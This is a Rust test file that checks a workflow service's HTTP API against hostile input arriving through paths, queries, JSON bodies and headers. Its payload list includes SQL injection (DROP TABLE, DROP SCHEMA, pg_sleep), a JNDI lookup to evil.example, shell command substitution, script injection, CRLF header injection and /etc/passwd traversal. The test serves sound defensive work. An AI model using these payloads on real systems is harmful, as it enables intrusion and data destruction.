//! Text that means something to a database, a log or a protocol, through every input of a request.

use harness::on_each_backend;

use super::*;

/// None of these is a number.
const HOSTILE: &[&str] = &[
    "'; DROP TABLE workflow_status; --",
    "\"; DROP SCHEMA dbos CASCADE; --",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(10); --",
    "$1",
    "$$; SELECT 1; $$",
    "?1",
    ":name",
    "%s%n",
    "%",
    "_",
    "a%b",
    "a_b",
    "{}",
    "${jndi:ldap://evil.example/a}",
    "`id`",
    "$(id)",
    "<script>alert(1)</script>",
    "a\r\nset-cookie: b=c",
    "\u{1b}[31mred",
    "\u{0}",
    "a\u{0}b",
    "NULL",
    "e\u{301} \u{e9}",
    "\u{202e}gnp.exe",
    "\u{feff}bom",
    "../../etc/passwd",
    "h1:checkout:a:b",
    "x::y",
];

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

on_each_backend! {
    // B07, B09, B10, B27
    async fn s21_hostile_text_is_stored_as_data_or_refused_wherever_it_comes(fresh: Fresh) {
        let dbos = launch(fresh.url()).await;
        let (client, shop) = (api(&dbos), Client::new(app(DbosLayer::new(dbos.clone()))));
        let id = parked_by_ada(&client).await;
        let tables = match fresh.backend() {
            harness::Backend::Sqlite => "sqlite_master",
            harness::Backend::Postgres => "pg_class WHERE relnamespace = 'dbos'::regnamespace",
        };
        let tables_before = count(&fresh, tables).await;
        let (mut taken, mut refused) = (0, 0);
        for text in HOSTILE {
            let path = encoded(text);
            let post = |path: String| of(&client, ADAS, &Method::POST, &path);
            let get = |path: String| of(&client, ADAS, &Method::GET, &path);
            let mut requests = vec![
                post(format!("/dbos/start/{path}")).json(&cart()),
                post(format!("/dbos/start/checkout?{path}={path}")).json(&cart()),
                post(format!("/dbos/start/checkout?queue={path}")).json(&cart()),
                post("/dbos/start/checkout".to_owned()).json(&json!({"item": text, "count": 1})),
                post("/dbos/start/checkout".to_owned()).json(&json!({"item": "cup", "count": text})),
                post("/dbos/start/checkout".to_owned()).header("content-type", "application/json").body(text.to_string()),
                post(format!("/dbos/workflows/{id}/messages/{path}")).json(&json!({*text: text})),
                post(format!("/dbos/workflows/{path}/messages")).json(&json!(text)),
                post(format!("/dbos/workflows/{path}/cancel")),
                get(format!("/dbos/workflows/{path}")),
                get(format!("/dbos/workflows/{path}/result")),
                get(format!("/dbos/workflows/{path}/events")),
                get(format!("/dbos/workflows/{id}/events/{path}")),
                get(format!("/dbos/workflows/{id}?{path}={path}")),
                shop.post(format!("/checkout/{path}")).json(&cart()),
                shop.post(format!("/twice/{path}")).json(&cart()),
                shop.get(format!("/events/{id}/{path}")),
            ];
            // Other bytes do not come as far as this: `heads_that_are_no_http_are_refused`.
            if http::HeaderValue::from_bytes(text.as_bytes()).is_ok() {
                for header in ["idempotency-key", "dbos-idempotency-key", "prefer", "x-user", "x-tenant", "x-request-id", "traceparent"] {
                    requests.push(shop.post("/checkout").header(header, text).json(&cart()));
                    requests.push(post("/dbos/start/checkout".to_owned()).header(header, text).json(&cart()));
                }
                requests.push(client.get(format!("/dbos/workflows/{id}")).header("authorization", text));
            }
            for request in requests {
                let shown = format!("{request:?}");
                let answer = request.send().await;
                assert!(answer.status.as_u16() < 500, "{text:?}: {} {} of {shown}", answer.status, answer.text());
                assert_eq!(answer.header("set-cookie"), None, "{text:?}");
                for (name, value) in &answer.headers {
                    assert!(value.as_bytes().iter().all(|byte| (0x20..0x7f).contains(byte)), "{name}: {value:?}");
                }
                // In JSON, control characters are escaped.
                assert!(!answer.text().chars().any(|c| c.is_control()), "{text:?}: {:?}", answer.text());
                if answer.status.is_success() { taken += 1 } else { refused += 1 }
            }
        }
        assert!(taken > 100 && refused > 300, "{taken} were taken and {refused} refused");
        assert_eq!(count(&fresh, tables).await, tables_before);
        let kept = of(&client, ADAS, &Method::GET, &format!("/dbos/workflows/{id}")).send().await;
        assert_eq!(kept.json()["status"], "PENDING", "nobody else's workflow was touched");

        // What was taken is there as it came.
        let inputs: Vec<Value> = fresh
            .query("SELECT inputs FROM workflow_input")
            .await
            .concat()
            .into_iter()
            .map(|text| serde_json::from_str(&text.unwrap()).unwrap())
            .collect();
        for text in HOSTILE {
            let item = |input: &&Value| input["positionalArgs"][0]["item"] == **text;
            assert!(inputs.iter().any(|input| item(&input)), "{text:?}");
        }
        end(&dbos).await;
    }

    async fn s18_no_answer_and_no_header_carries_a_line_of_the_client_s(fresh: Fresh) {
        let dbos = launch(fresh.url()).await;
        let client = api(&dbos);
        for line in ["%0d%0ax-evil:1", "%0a", "%0d", "%1b%5b2J", "%00", "%c2%85", "%e2%80%a8"] {
            for path in [format!("/dbos/workflows/{line}"), format!("/dbos/start/{line}"), format!("/dbos/{line}"), format!("/{line}")] {
                for method in [Method::GET, Method::POST] {
                    let answer = with_body(of(&client, ADAS, &method, &path), &method).header("x-request-id", "r-1").send().await;
                    assert!(answer.status.is_client_error(), "{method} {path}: {}", answer.status);
                    assert_eq!(answer.header("x-evil"), None);
                    assert_eq!(answer.json()["instance"].as_str().unwrap(), path, "as it came, still encoded");
                    assert!(!answer.text().chars().any(|c| c.is_control() || c == '\u{2028}'), "{:?}", answer.text());
                }
            }
        }
        end(&dbos).await;
    }
}
